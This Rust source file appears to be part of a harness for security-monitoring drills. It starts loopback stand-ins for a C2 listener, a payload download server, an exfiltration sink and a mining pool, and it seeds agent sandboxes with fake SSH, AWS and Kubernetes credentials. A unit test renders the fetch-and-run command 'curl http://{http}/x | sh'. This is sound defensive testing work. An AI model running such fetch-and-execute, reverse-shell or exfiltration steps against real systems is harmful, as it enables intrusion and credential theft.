//! What the harness sets up for live drills and recordings: loopback targets (a C2 listener, an
//! HTTP server with a script and a binary to download, an exfiltration sink on another loopback
//! address, a mining-pool listener, the class's service) and each agent's private files (its data
//! at `/srv`, a fake service-account token under `/run/secrets`, a home at `/home/agent`, a
//! cron spool at `/var/spool`), mounted privately so nothing outside temporary directories is
//! ever written. Scenario steps name the targets with `{placeholders}`.

use std::{
    collections::BTreeMap,
    io::{Read as _, Write as _},
    net::{SocketAddr, TcpListener, TcpStream},
    path::{Path, PathBuf},
    sync::{
        Arc,
        atomic::{AtomicU64, Ordering},
    },
    time::Duration,
};

use anyhow::Context as _;

use crate::workload::{
    profile::{DATA_ROOT, prepare_data},
    services,
    spawn::AgentSpawn,
};

/// The placeholders a step may use.
pub const NAMES: &[&str] = &[
    "listener", "http", "sink", "pool", "service", "scratch", "shm",
];
/// The agent's home inside its mount namespace.
pub const HOME: &str = "/home/agent";
/// Port mining clients use by default (stratum); a fallback port is used when it is taken.
const POOL_PORT: u16 = 3333;
/// Largest upload the sink reads per connection.
const SINK_LIMIT: u64 = 128 << 20;

#[derive(Debug, thiserror::Error)]
#[error("unknown placeholder {{{0}}} (known: {names})", names = NAMES.join(", "))]
pub struct UnknownPlaceholder(String);

/// Values for `{name}` in steps.
#[derive(Clone, Debug, Default)]
pub struct Placeholders(BTreeMap<&'static str, String>);

impl Placeholders {
    /// Values of the right shape, for checking steps without running anything.
    pub fn sample() -> Self {
        let mut p = Self::default();
        for (k, v) in [
            ("listener", "127.0.0.1:4444"),
            ("http", "127.0.0.1:8080"),
            ("sink", "127.0.0.2:8443"),
            ("pool", "127.0.0.1:3333"),
            ("service", "127.0.0.1:17300"),
            ("scratch", "/tmp/.drill"),
            ("shm", "/dev/shm/.drill"),
        ] {
            p.set(k, v.into());
        }
        p
    }

    fn set(&mut self, name: &'static str, value: String) {
        self.0.insert(name, value);
    }

    pub fn get(&self, name: &str) -> Option<&str> {
        self.0.get(name).map(String::as_str)
    }

    /// Replaces every `{name}`; an unknown name is an error.
    pub fn render(&self, step: &str) -> Result<String, UnknownPlaceholder> {
        let mut out = String::with_capacity(step.len());
        let mut rest = step;
        while let Some(open) = rest.find('{') {
            out.push_str(&rest[..open]);
            let after = &rest[open + 1..];
            let Some(close) = after.find('}') else {
                out.push_str(&rest[open..]);
                rest = "";
                break;
            };
            let name = &after[..close];
            let value = self
                .get(name)
                .ok_or_else(|| UnknownPlaceholder(name.to_owned()))?;
            out.push_str(value);
            rest = &after[close + 1..];
        }
        out.push_str(rest);
        Ok(out)
    }
}

/// What reached the loopback targets (shown in the report, proving the attack really ran).
#[derive(Debug, Default)]
pub struct Hits {
    pub listener_connections: AtomicU64,
    pub http_requests: AtomicU64,
    pub sink_bytes: AtomicU64,
    pub pool_connections: AtomicU64,
}

impl Hits {
    pub fn snapshot(&self) -> BTreeMap<&'static str, u64> {
        [
            ("listener_connections", &self.listener_connections),
            ("http_requests", &self.http_requests),
            ("sink_bytes", &self.sink_bytes),
            ("pool_connections", &self.pool_connections),
        ]
        .into_iter()
        .map(|(k, v)| (k, v.load(Ordering::Relaxed)))
        .collect()
    }
}

/// The loopback targets, started once per run; their threads end with the process.
pub struct Targets {
    pub listener: SocketAddr,
    pub http: SocketAddr,
    pub sink: SocketAddr,
    pub pool: SocketAddr,
    pub service: SocketAddr,
    pub hits: Arc<Hits>,
}

impl Targets {
    pub fn start() -> anyhow::Result<Self> {
        let hits = Arc::new(Hits::default());
        // The class models learned their service at the demo port; elsewhere it would be a
        // destination never seen for the class.
        let service = services::start(services::DEMO_PORT).or_else(|e| {
            log::warn!(
                "demo service port {} is taken ({e}); the service runs on another port, which \
                 the class models have not seen",
                services::DEMO_PORT
            );
            services::start(0)
        })?;
        let listener = serve("drill-c2", "127.0.0.1:0", hits.clone(), |mut conn, hits| {
            hits.listener_connections.fetch_add(1, Ordering::Relaxed);
            // A reverse shell on the other end runs one command and leaves.
            let _ = conn.write_all(b"id\nexit\n");
            drain(&mut conn, 1 << 20);
        })?;
        let sink = serve(
            "drill-sink",
            "127.0.0.2:0",
            hits.clone(),
            |mut conn, hits| {
                let n = drain(&mut conn, SINK_LIMIT);
                hits.sink_bytes.fetch_add(n, Ordering::Relaxed);
                let _ = conn.write_all(b"ok\n");
            },
        )?;
        let pool_handler = |mut conn: TcpStream, hits: &Hits| {
            hits.pool_connections.fetch_add(1, Ordering::Relaxed);
            let mut buf = [0u8; 1024];
            let _ = conn.read(&mut buf);
            let _ = conn.write_all(
                b"{\"id\":1,\"jsonrpc\":\"2.0\",\"error\":null,\"result\":{\"id\":\"drill\",\"job\":{\"blob\":\"00\",\"target\":\"ffff\"}}}\n",
            );
        };
        let pool = serve(
            "drill-pool",
            &format!("127.0.0.1:{POOL_PORT}"),
            hits.clone(),
            pool_handler,
        )
        .or_else(|_| serve("drill-pool", "127.0.0.1:0", hits.clone(), pool_handler))?;
        let http = http_server(hits.clone())?;
        Ok(Self {
            listener,
            http,
            sink,
            pool,
            service,
            hits,
        })
    }
}

/// Accepts connections on `addr` and hands each, with read/write timeouts, to `handle` on its
/// own thread.
fn serve(
    name: &str,
    addr: &str,
    hits: Arc<Hits>,
    handle: fn(TcpStream, &Hits),
) -> anyhow::Result<SocketAddr> {
    let listener = TcpListener::bind(addr).with_context(|| format!("binding {addr}"))?;
    let local = listener.local_addr()?;
    std::thread::Builder::new()
        .name(name.into())
        .spawn(move || {
            for conn in listener.incoming().flatten() {
                let _ = conn.set_read_timeout(Some(Duration::from_secs(3)));
                let _ = conn.set_write_timeout(Some(Duration::from_secs(3)));
                let hits = hits.clone();
                std::thread::spawn(move || handle(conn, &hits));
            }
        })?;
    Ok(local)
}

/// Reads until EOF, a timeout or `limit` bytes; returns the bytes read.
fn drain(mut conn: impl std::io::Read, limit: u64) -> u64 {
    let mut buf = vec![0u8; 64 * 1024];
    let mut total = 0;
    while total < limit {
        match conn.read(&mut buf) {
            Ok(0) | Err(_) => break,
            Ok(n) => total += n as u64,
        }
    }
    total
}

/// What the downloaded installer does: reconnaissance, like the scripts droppers fetch.
const INSTALL_SCRIPT: &str =
    "#!/bin/sh\nid\nuname -a\nhostname\necho agent-monitor drill payload\n";

/// A loopback HTTP server with `/install.sh` (a shell script) and `/payload` (an ELF binary:
/// a copy of `id`).
fn http_server(hits: Arc<Hits>) -> anyhow::Result<SocketAddr> {
    let server = tiny_http::Server::http("127.0.0.1:0")
        .map_err(|e| anyhow::anyhow!("starting the drill HTTP server: {e}"))?;
    let addr = server
        .server_addr()
        .to_ip()
        .context("the drill HTTP server has no IP address")?;
    let payload = std::fs::read("/usr/bin/id").context("reading /usr/bin/id for the payload")?;
    std::thread::Builder::new()
        .name("drill-http".into())
        .spawn(move || {
            for req in server.incoming_requests() {
                hits.http_requests.fetch_add(1, Ordering::Relaxed);
                let resp = match req.url() {
                    "/install.sh" => tiny_http::Response::from_data(INSTALL_SCRIPT.as_bytes()),
                    "/payload" => tiny_http::Response::from_data(payload.clone()),
                    _ => tiny_http::Response::from_data(b"not found\n".to_vec())
                        .with_status_code(404),
                };
                let _ = req.respond(resp);
            }
        })?;
    Ok(addr)
}

/// One agent's private files and scratch directories; removed on drop.
pub struct AgentFiles {
    work: tempfile::TempDir,
    scratch: PathBuf,
    shm: PathBuf,
}

impl AgentFiles {
    /// Prepares the files for the agent of one scenario.
    pub fn new(tag: &str) -> anyhow::Result<Self> {
        let work = tempfile::Builder::new()
            .prefix(&format!("agent-monitor-drill-{tag}-"))
            .tempdir()?;
        let w = work.path();
        prepare_data(&w.join("srv"))?;
        let token_dir = w.join("run/secrets/kubernetes.io/serviceaccount");
        std::fs::create_dir_all(&token_dir)?;
        // Not a real token: a JWT-shaped string that opens nothing.
        std::fs::write(
            token_dir.join("token"),
            "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJkcmlsbCJ9.ZHJpbGwtbm90LWEtcmVhbC10b2tlbg\n",
        )?;
        std::fs::write(token_dir.join("namespace"), "agents\n")?;
        let home = w.join("home/agent");
        for sub in [".ssh", ".aws", ".config"] {
            std::fs::create_dir_all(home.join(sub))?;
        }
        std::fs::write(
            home.join(".ssh/id_ed25519"),
            "-----BEGIN OPENSSH PRIVATE KEY-----\ndrill-fake-key\n-----END OPENSSH PRIVATE KEY-----\n",
        )?;
        std::fs::write(home.join(".ssh/authorized_keys"), "")?;
        std::fs::write(
            home.join(".aws/credentials"),
            "[default]\naws_access_key_id = AKIADRILLNOTREAL\naws_secret_access_key = drill/not/a/secret\n",
        )?;
        std::fs::write(home.join(".bashrc"), "# agent shell profile\n")?;
        std::fs::write(
            home.join("notes.txt"),
            "db password = drill-not-a-password\n",
        )?;
        std::fs::create_dir_all(w.join("spool/cron/crontabs"))?;
        let scratch = std::env::temp_dir().join(format!(".drill-{tag}-{}", std::process::id()));
        let shm = Path::new("/dev/shm").join(format!(".drill-{tag}-{}", std::process::id()));
        for d in [&scratch, &shm] {
            std::fs::create_dir_all(d).with_context(|| format!("creating {}", d.display()))?;
        }
        Ok(Self { work, scratch, shm })
    }

    /// How to start a process of this agent: its private mounts.
    pub fn spawn(&self) -> AgentSpawn {
        let w = self.work.path();
        AgentSpawn::default()
            .bind(w.join("srv"), DATA_ROOT)
            .bind(w.join("run"), "/run")
            .bind(w.join("home"), "/home")
            .bind(w.join("spool"), "/var/spool")
    }

    /// The directories a spawned agent program must not live under (they are hidden by the
    /// private mounts).
    pub fn hidden() -> [&'static Path; 4] {
        [
            Path::new(DATA_ROOT),
            Path::new("/run"),
            Path::new("/home"),
            Path::new("/var/spool"),
        ]
    }

    pub fn placeholders(&self, targets: &Targets) -> Placeholders {
        let mut p = Placeholders::default();
        p.set("listener", targets.listener.to_string());
        p.set("http", targets.http.to_string());
        p.set("sink", targets.sink.to_string());
        p.set("pool", targets.pool.to_string());
        p.set("service", targets.service.to_string());
        p.set("scratch", self.scratch.display().to_string());
        p.set("shm", self.shm.display().to_string());
        p
    }

    /// A directory for the harness's own files (configuration, state, output).
    pub fn work_dir(&self) -> &Path {
        self.work.path()
    }
}

impl Drop for AgentFiles {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.scratch);
        let _ = std::fs::remove_dir_all(&self.shm);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn placeholders_render_and_refuse_unknown_names() {
        let p = Placeholders::sample();
        assert_eq!(
            p.render("connect:{listener}").unwrap(),
            "connect:127.0.0.1:4444"
        );
        assert_eq!(
            p.render("sh:curl http://{http}/x | sh").unwrap(),
            "sh:curl http://127.0.0.1:8080/x | sh"
        );
        assert_eq!(p.render("no braces").unwrap(), "no braces");
        assert_eq!(p.render("open { only").unwrap(), "open { only");
        let e = p.render("x:{nope}").unwrap_err().to_string();
        assert!(e.starts_with("unknown placeholder {nope}"), "{e}");
    }

    #[test]
    fn agent_files_hold_fakes_and_scratch_dirs_go_away() {
        let files = AgentFiles::new("unit").unwrap();
        let w = files.work_dir().to_owned();
        assert!(
            w.join("run/secrets/kubernetes.io/serviceaccount/token")
                .is_file()
        );
        assert!(w.join("home/agent/.ssh/id_ed25519").is_file());
        assert!(w.join("srv/transactions/batch-000.csv").is_file());
        let p = files.placeholders(&Targets {
            listener: "127.0.0.1:1".parse().unwrap(),
            http: "127.0.0.1:2".parse().unwrap(),
            sink: "127.0.0.2:3".parse().unwrap(),
            pool: "127.0.0.1:4".parse().unwrap(),
            service: "127.0.0.1:5".parse().unwrap(),
            hits: Arc::default(),
        });
        let scratch = PathBuf::from(p.get("scratch").unwrap());
        assert!(scratch.is_dir());
        drop(files);
        assert!(!scratch.exists() && !w.exists());
    }
}
